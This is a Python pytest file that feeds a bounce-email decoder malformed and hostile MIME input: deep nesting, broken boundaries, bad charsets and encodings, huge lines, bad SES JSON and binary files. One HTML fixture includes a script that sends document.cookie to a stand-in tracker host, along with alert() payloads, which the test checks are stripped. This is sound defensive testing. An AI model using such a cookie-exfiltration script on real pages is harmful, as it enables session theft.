"""MIME torture: hostile and broken messages, generated here (nothing big is committed).

Every case must decode without an exception and keep the report invariants. Several cases are
sized so that the quadratic behaviour they guard against would take minutes; how long each one
takes is measured by ``benchmarks/torture.py`` (wall-clock limits do not belong in unit tests,
which run on loaded machines).
"""

from __future__ import annotations

import base64
import os
import random
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from smtphelper.core.decode import decode
from smtphelper.core.model import Report
from smtphelper.core.textinput import MAX_ANALYSED_CHARS
from tests.fuzz.strategies import check_report

ROOT = Path(__file__).resolve().parents[2]
HEADERS = (
    "From: Mail Delivery System <MAILER-DAEMON@mx.example.org>\n"
    "To: anna@example.com\n"
    "Subject: Undelivered Mail Returned to Sender\n"
    "Date: Mon, 5 Jan 2026 10:00:00 +0100\n"
    "MIME-Version: 1.0\n"
)
NOTICE = "<bob@example.net>: host mx.example.net[192.0.2.7] said: 550 5.1.1 User unknown\n"
NOTE_CUT = "only its beginning was read"


def decoded(data: str | bytes) -> Report:
    """The report for ``data``, checked against the invariants every report keeps."""
    report = decode(data)
    check_report(report)
    return report


def addresses(report: Report) -> list[str | None]:
    return [r.address for r in report.recipients]


def message(content_type: str, body: str, extra: str = "") -> str:
    return f"{HEADERS}{extra}Content-Type: {content_type}\n\n{body}"


def report_of(parts: list[tuple[str, str]], boundary: str = "b") -> str:
    """A multipart/report with the given (content type, body) parts."""
    body = "".join(f"--{boundary}\nContent-Type: {ctype}\n\n{text}\n" for ctype, text in parts)
    return message(f'multipart/report; report-type=delivery-status; boundary="{boundary}"',
                   body + f"--{boundary}--\n")


def dsn_part(recipients: int) -> str:
    blocks = ["Reporting-MTA: dns; mx.example.org\n"]
    blocks += [f"Final-Recipient: rfc822; user{i}@example.net\nAction: failed\n"
               f"Status: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1 user{i}: no such user\n"
               for i in range(recipients)]
    return "\n".join(blocks)


# --- Nesting -------------------------------------------------------------------------------

def nested_multipart(depth: int) -> str:
    opening = "".join(f'--b{i - 1}\nContent-Type: multipart/mixed; boundary="b{i}"\n\n'
                      for i in range(1, depth))
    closing = "".join(f"--b{i}--\n" for i in reversed(range(depth)))
    return (message('multipart/mixed; boundary="b0"', opening)
            + f"--b{depth - 1}\nContent-Type: text/plain\n\n{NOTICE}{closing}")


def nested_rfc822(depth: int) -> str:
    inner = "From: anna@example.com\nTo: bob@example.net\nSubject: hello\n\nHi Bob\n"
    for i in range(depth):
        inner = (f"From: anna{i}@example.com\nTo: bob@example.net\nSubject: fwd {i}\n"
                 f"Content-Type: message/rfc822\n\n{inner}")
    return report_of([("text/plain", NOTICE), ("message/delivery-status", dsn_part(1)),
                      ("message/rfc822", inner)])


def nested_digest(depth: int) -> str:
    # A digest's parts are message/rfc822 without saying so: nesting without a header each.
    body = "".join(f'--d{i - 1}\n\nContent-Type: multipart/digest; boundary="d{i}"\n\n'
                   for i in range(1, depth))
    return message('multipart/digest; boundary="d0"', body + f"--d{depth - 1}\n\n{NOTICE}")


def test_multipart_nested_five_thousand_deep() -> None:
    report = decoded(nested_multipart(5000))
    assert report.kind in ("bounce", "unrecognised")


def test_message_rfc822_nested_five_thousand_times() -> None:
    report = decoded(nested_rfc822(5000))
    assert addresses(report) == ["user0@example.net"]


def test_digest_nested_five_thousand_deep() -> None:
    decoded(nested_digest(5000))


def test_deep_nesting_in_a_small_worker_thread_stack() -> None:
    # The window decodes in worker threads, whose stacks can be small (512 KiB on macOS):
    # deep recursion there is a crash, not an exception. Run in a child process to see it.
    script = textwrap.dedent("""
        import threading
        from smtphelper.core.decode import decode
        from tests.core.test_torture import nested_digest, nested_multipart, nested_rfc822
        inputs = [nested_multipart(5000), nested_rfc822(5000), nested_digest(5000),
                  '{"notificationType": "Bounce", "bounce": ' + '[' * 5000]
        done = []
        threading.stack_size(512 * 1024)
        worker = threading.Thread(target=lambda: done.extend(decode(d).kind for d in inputs))
        worker.start()
        worker.join()
        print(len(done))
    """)
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                            cwd=ROOT, timeout=120, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert result.returncode == 0, result.stderr[-2000:]
    assert result.stdout.strip() == "4", result.stderr[-2000:]


# --- Boundaries ----------------------------------------------------------------------------

@pytest.mark.parametrize("body", [
    pytest.param(f"--other\nContent-Type: text/plain\n\n{NOTICE}--other--\n", id="never-used"),
    pytest.param(f"--b\nContent-Type: text/plain\n\n{NOTICE}", id="never-closed"),
    pytest.param(f"--b\nContent-Type: multipart/mixed\n\n{NOTICE}--b--\n", id="inner-none"),
    pytest.param(f"--b \t\nContent-Type: text/plain\n\n{NOTICE}--b--  \n", id="spaces"),
    pytest.param(f"--B\nContent-Type: text/plain\n\n{NOTICE}--B--\n", id="wrong-case"),
    pytest.param("--b\n" * 20_000 + NOTICE, id="twenty-thousand-empty-parts"),
    pytest.param(f"--b{'x' * 100_000}\n{NOTICE}", id="hundred-kilobyte-boundary-line"),
    pytest.param("".join(f"--b\nContent-Type: multipart/mixed; boundary=\"c{i}\"\n\n--c{i}\n"
                         f"\n{NOTICE}" for i in range(2000)), id="two-thousand-boundaries"),
])
def test_broken_boundaries(body: str) -> None:
    decoded(message('multipart/report; report-type=delivery-status; boundary="b"', body))


@pytest.mark.parametrize("content_type", [
    "multipart/mixed", "multipart/mixed; boundary=", 'multipart/mixed; boundary=""',
    'multipart/mixed; boundary="unclosed', "multipart/mixed; boundary=b; boundary=c",
    "multipart/", "/", "multipart/mixed; boundary=" + "b" * 5000,
])
def test_missing_or_odd_boundary_parameter(content_type: str) -> None:
    report = decoded(message(content_type, f"--b\nContent-Type: text/plain\n\n{NOTICE}--b--\n"))
    assert "bob@example.net" in addresses(report)


@pytest.mark.parametrize("content_type", [
    'text/plain; a="' + ";" * 200_000,  # an unbalanced quote: quadratic in the stdlib
    "text/plain" + "; a=b" * 100_000,
    'multipart/mixed; a="' + ";" * 200_000,
])
def test_huge_parameter_lists(content_type: str) -> None:
    decoded(message(content_type, NOTICE, extra="Content-Transfer-Encoding: base64\n"))


# --- Charsets ------------------------------------------------------------------------------

def test_unknown_charset() -> None:
    data = message("text/plain; charset=x-unknown", "<eva@example.cz>: 550 5.1.1 Uživatel "
                   "neexistuje\n").encode("cp1250")
    assert addresses(decoded(data)) == ["eva@example.cz"]


def test_utf8_declared_but_latin1_bytes() -> None:
    data = message("text/plain; charset=utf-8", "<jose@example.es>: 550 5.1.1 Usuario "
                   "desconocido, señor\n").encode("latin-1")
    report = decoded(data)
    assert addresses(report) == ["jose@example.es"]
    assert "Usuario desconocido" in (report.recipients[0].diagnostic or "")


@pytest.mark.parametrize("charset", ["punycode", "idna", "utf-7", "unicode-escape", "base64",
                                     "rot13", "uu", "zlib", "utf-16", "undefined", "x" * 300])
def test_odd_charsets_in_a_part(charset: str) -> None:
    payload = base64.encodebytes(b"-" + b"a" * 200_000 + b" 550 5.1.1 \\ud800 +2AA-").decode()
    data = message(f"text/plain; charset={charset}", payload,
                   extra="Content-Transfer-Encoding: base64\n")
    decoded(data)


def test_thousands_of_lying_charset_declarations() -> None:
    # Every declared charset was tried on the whole input: 10,000 tries of a megabyte.
    data = b"charset=ascii; " * 10_000 + b"\xff" * 1_000_000
    decoded(data)


def test_declared_punycode_for_the_whole_input() -> None:
    decoded(b"\xff charset=punycode -" + b"a" * 1_000_000)


@pytest.mark.parametrize("data", [
    pytest.param("550 5.1.1 <a@example.com> \ud800 unknown \udfff", id="pasted-text"),
    pytest.param(b"\xff charset=unicode-escape 550 5.1.1 <a@example.com> \\ud800", id="bytes"),
    pytest.param(message("text/plain", "550 5.1.1 <a@example.com> \udc80 \ud800\n",
                         extra="Subject: \ud800 =?utf-7?Q?+2AA-?=\n"), id="email"),
])
def test_lone_surrogates(data: str | bytes) -> None:
    report = decoded(data)
    assert not any(0xD800 <= ord(ch) <= 0xDFFF for ch in report.text)
    assert report.recipients[0].address == "a@example.com"


# --- Transfer encodings and encoded words -----------------------------------------------------

@pytest.mark.parametrize(("encoding", "payload"), [
    ("base64", "!!!! not base64 at all ****\n" + NOTICE),
    ("base64", "NTUwIDUuMS4xIDx4QGV4YW1wbGUuY29tPg"),  # missing padding
    ("base64", "NTUwI"),  # length 4n + 1
    ("base64", "====\n" * 1000),
    ("base64", base64.encodebytes(bytes(range(256)) * 100).decode()),
    ("quoted-printable", "550 5.1.1 =ZZ=\n=3D=\n=C3=\n=" + "=" * 10_000),
    ("quoted-printable", "=\n" * 100_000 + NOTICE),
    ("x-uuencode", "begin 644 x\n!!!!\nend\n" + NOTICE),
    ("x-uuencode", "begin 644 x\n" + "M" * 10_000 + "\n"),
    ("bogus-encoding", NOTICE),
])
def test_invalid_transfer_encodings(encoding: str, payload: str) -> None:
    decoded(message("text/plain; charset=utf-8", payload,
                  extra=f"Content-Transfer-Encoding: {encoding}\n"))


@pytest.mark.parametrize("subject", [
    "=?bogus?Q?=FF=FE?=", "=?utf-8?B?!!!?=", "=?utf-8?Q?=FF?=", "=?utf-8?B?aaaa", "=?=?=?=?",
    "=?punycode?Q?-aaaa?=", "=?base64?B?YWJj?=", "=?utf-8*en?Q?x?=", "=?" * 50_000,
    "=?utf-8?q?a?= " * 20_000,
])
def test_encoded_word_garbage_in_headers(subject: str) -> None:
    data = (f"From: =?utf-8?B?!!!?= <MAILER-DAEMON@example.org>\nTo: {subject}\n"
            f"Subject: {subject}\nContent-Type: text/plain\n\n{NOTICE}"
            f"\n--- Original message ---\nSubject: {subject}\nFrom: {subject}\n")
    assert "bob@example.net" in addresses(decoded(data))


def test_a_header_of_a_hundred_and_forty_thousand_encoded_words() -> None:
    # The standard library decodes these in quadratic time (list.pop(0), bytes +=).
    decoded(HEADERS.replace("Subject: ", "Subject: " + "=?utf-8?q?a?= " * 140_000) + "\n" + NOTICE)


# --- Sizes ---------------------------------------------------------------------------------

def test_nul_bytes_in_the_body_of_a_file() -> None:
    data = (HEADERS + "\n" + "x" * 2000 + "\n\n" + NOTICE).encode() + b"\x00" + b"tail\n"
    assert addresses(decoded(data)) == ["bob@example.net"]


@pytest.mark.parametrize("data", [b"\x00" * 100_000, "\x00" + NOTICE, b"\x00" + NOTICE.encode()])
def test_nul_bytes_at_the_start(data: str | bytes) -> None:
    report = decoded(data)
    assert report.kind == "binary" and report.notes


@pytest.mark.parametrize("data", [
    pytest.param(HEADERS + "\n550 5.1.1 " + "a" * 5_000_000 + "\n", id="email"),
    pytest.param("550 5.1.1 <a@example.com> " + "x" * 5_000_000, id="paste"),
    pytest.param("550 " * 1_250_000, id="codes"),
    pytest.param(" " * 5_000_000 + "550 5.1.1", id="spaces"),
    pytest.param(("<a" + "@" * 60) * 80_000, id="address-like"),
])
def test_five_megabyte_single_line(data: str) -> None:
    report = decoded(data)
    assert report.truncated and any(NOTE_CUT in note for note in report.notes)


def test_two_hundred_thousand_headers() -> None:
    headers = "".join(f"X-Header-{i}: value {i}\n" for i in range(200_000))
    decoded(HEADERS + headers + "Content-Type: text/plain\n\n" + NOTICE)


def test_delivery_status_with_ten_thousand_recipients() -> None:
    report = decoded(report_of([("text/plain", "Delivery failed.\n"),
                              ("message/delivery-status", dsn_part(10_000))]))
    assert len(report.recipients) == 500
    assert report.recipients[0].address == "user0@example.net"
    assert report.truncated and any(NOTE_CUT in note for note in report.notes)


def test_twenty_thousand_failed_recipients_in_a_header() -> None:
    listed = ", ".join(f"user{i}@example.net" for i in range(20_000))
    report = decoded(message("text/plain", NOTICE, extra=f"X-Failed-Recipients: {listed}\n"))
    assert len(report.recipients) == 500 and report.truncated


def test_hundreds_of_recipients_share_one_long_notice() -> None:
    # Each recipient without words of its own is matched against the notice, with its own
    # codes: the notice is read once, not once per recipient.
    notice = "lorem ipsum " * 1600 + "\nThe mailbox is full; user unknown, no such user.\n"
    blocks = "\n".join(f"Final-Recipient: rfc822; user{i}@example.net\nAction: failed\n"
                       f"Status: 5.{i % 8}.{i % 100}\n" for i in range(2000))
    plain = report_of([("text/plain", notice), ("message/delivery-status", blocks)])
    encoded = report_of([("text/plain\nContent-Transfer-Encoding: base64",
                          base64.encodebytes(notice.encode()).decode()),
                         ("message/delivery-status", blocks)]) + "padding\n" * 150_000
    for data in (plain, encoded):
        report = decoded(data)
        assert len(report.recipients) == 500


def test_folded_delivery_status_field_in_a_plain_notice() -> None:
    # A field folded over 300,000 lines: appending line by line was quadratic.
    fields = ("Final-Recipient: rfc822; bob@example.net\nAction: failed\nStatus: 5.1.1\n"
              "Diagnostic-Code: smtp; 550 5.1.1\n" + " word\n" * 300_000 + "\n--\n")
    report = decoded(message("text/plain", "Delivery failed.\n\n" + fields))
    assert addresses(report) == ["bob@example.net"]
    assert len(report.recipients[0].diagnostic or "") <= 4000


def test_many_delivery_status_fields_folded_far_from_their_value() -> None:
    blocks = "\n".join(f"Final-Recipient: rfc822; u{i}@example.net\nAction: failed\n"
                       f"Status: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1\n  user{i} unknown\n"
                       for i in range(4000))
    decoded(report_of([("text/plain", "failed"), ("message/delivery-status", blocks)])
          + "x" * 1_500_000)


def test_header_like_lines_all_through_the_text() -> None:
    decoded(NOTICE + "\n" + "To: x\nfoo\n" * 200_000)


def test_twenty_megabyte_paste_is_read_from_its_beginning() -> None:
    text = NOTICE + ("\n" + "Lorem ipsum dolor sit amet. " * 3 + "\n") * 235_000
    assert len(text) > 20_000_000
    report = decoded(text)
    assert report.truncated and any(NOTE_CUT in note for note in report.notes)
    assert len(report.text) == len(text)  # the user still sees everything
    assert addresses(report) == ["bob@example.net"]
    hit = report.codes[0]
    assert hit.span is not None and hit.span.end < MAX_ANALYSED_CHARS


# --- HTML ----------------------------------------------------------------------------------

HTML_BOUNCE = """<html><head>
<link rel="stylesheet" href="https://tracker.example/style.css">
<style>body { background: url(https://tracker.example/bg.png) } @import url(http://x.test/a);</style>
<script src="https://tracker.example/a.js"></script>
<script>fetch("https://tracker.example/?leak=" + document.cookie); alert(1)</script>
</head><body onload="alert(2)">
<img src="https://tracker.example/pixel.gif" width=1 height=1>
<p>Your message to <a href="mailto:bob@example.net">bob@example.net</a> couldn't be
delivered.</p>
<p>Remote server returned '550 5.1.1 RESOLVER.ADR.RecipNotFound; not found'</p>
<iframe src="https://tracker.example/frame"></iframe>
<object data="http://x.test/o.swf"></object>
</body></html>
"""


@pytest.mark.parametrize("encoding", ["", "base64", "quoted-printable"])
def test_html_only_bounce_is_read_as_text(encoding: str) -> None:
    body = HTML_BOUNCE
    extra = ""
    if encoding == "base64":
        body = base64.encodebytes(HTML_BOUNCE.encode()).decode()
    elif encoding == "quoted-printable":
        body = HTML_BOUNCE.replace("=", "=3D")
    if encoding:
        extra = f"Content-Transfer-Encoding: {encoding}\n"
    report = decoded(message("text/html; charset=utf-8", body, extra=extra))
    assert report.kind == "bounce"
    assert addresses(report) == ["bob@example.net"]
    recipient = report.recipients[0]
    assert recipient.enhanced_code == "5.1.1"
    for words in (recipient.diagnostic or "", *(c.line for c in report.codes)):
        for markup in ("<script", "fetch(", "alert(", "<img", "url(", "<iframe", "onload"):
            assert markup not in words


def test_thousands_of_unclosed_script_tags() -> None:
    # Each unclosed <script> made the tag regex scan the next 100,000 characters.
    body = "<p>550 5.1.1 &lt;bob@example.net&gt; user unknown</p>" + "<script>" * 100_000
    report = decoded(message("text/html", body))
    assert report.recipients and report.recipients[0].address == "bob@example.net"


def test_endless_tags() -> None:
    decoded(message("text/html", ("<a" + "b" * 3000) * 300 + "<" * 500_000 + NOTICE))


# --- Amazon SES JSON -----------------------------------------------------------------------

SES = "From: no-reply@sns.amazonaws.com\nTo: anna@example.com\nSubject: AWS Notification\n\n"


@pytest.mark.parametrize("document", [
    '{"notificationType": "Bounce", "bounce": {"bouncedRecipients": 5}}',
    '{"notificationType": "Delivery", "delivery": {"recipients": true}}',
    '{"notificationType": "Complaint", "complaint": {"complainedRecipients": 1.5}}',
    '{"notificationType": "Bounce", "bounce": {"bouncedRecipients": [{"emailAddress": null, '
    '"status": [1], "diagnosticCode": {}}], "remoteMtaIp": []}}',
    '{"notificationType": "Bounce", "bounce": ' + "[" * 100_000,
    '{"notificationType": "Bounce", "bounce": {"bouncedRecipients": [{"emailAddress": '
    '"\\ud800@example.com", "diagnosticCode": "550 \\udfff"}]}}',
    '{"notificationType": "Bounce", "bounce": {"bouncedRecipients": ['
    + ",".join(f'{{"emailAddress": "u{i}@example.net"}}' for i in range(20_000)) + "]}}",
    '{"notificationType": 1e999999, "x": ' + "9" * 5000 + "}",
])
def test_malformed_ses_notifications(document: str) -> None:
    report = decoded(SES + document)
    for recipient in report.recipients:
        assert not any(0xD800 <= ord(ch) <= 0xDFFF for ch in recipient.address or "")


# --- Not text at all -----------------------------------------------------------------------

def _random_bytes(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


@pytest.mark.parametrize(("data", "kind"), [
    (b"\x89PNG\r\n\x1a\n" + _random_bytes(200_000, 1), "PNG image"),
    (b"PK\x03\x04" + _random_bytes(200_000, 2), "ZIP archive"),
    (b"%PDF-1.7\n" + _random_bytes(200_000, 3), "PDF document"),
    (b"GIF89a" + _random_bytes(50_000, 4), "GIF image"),
    (b"\xff\xd8\xff\xe0" + _random_bytes(50_000, 5), "JPEG image"),
    (b"\x7fELF" + _random_bytes(50_000, 6), "program"),
    (_random_bytes(100_000, 7), "binary file"),
])
def test_binary_files_get_a_friendly_note(data: bytes, kind: str) -> None:
    report = decoded(data)
    assert report.kind == "binary"
    assert report.recipients == [] and report.codes == []
    assert len(report.notes) == 1 and kind in report.notes[0]
    assert "email" in report.notes[0]


def test_binary_file_pasted_as_text() -> None:
    data = (b"\x89PNG\r\n\x1a\n" + _random_bytes(20_000, 8)).decode("latin-1")
    report = decoded(data)
    assert report.kind == "binary" and report.notes
